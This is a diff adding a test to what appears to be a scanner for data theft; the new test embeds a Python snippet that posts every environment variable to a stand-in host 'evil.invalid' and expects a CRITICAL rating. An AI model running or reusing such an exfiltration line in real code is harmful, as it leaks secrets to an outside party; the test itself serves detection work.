@@ -170,6 +170,14 @@ def main():
     expect(['CRITICAL', 'HIGH', 'MEDIUM']).not.toContain(found(code(theirs))['stolen-data-sent']);
 });
 
+test('what runs unasked was told nothing on a command line', () => {
+  const code = `
+import os, sys, requests
+PLACES = {"a": "https://evil.invalid/a", "b": "https://evil.invalid/b"}
+requests.post(PLACES[sys.argv[1]], json=dict(os.environ))`;
+  expect(found(code)['stolen-data-sent']).toBe('CRITICAL');
+});
+
 test('a module that is written and then imported', () => {
   const code = (text: string): string => `
 import os, sys, tempfile, urllib.request
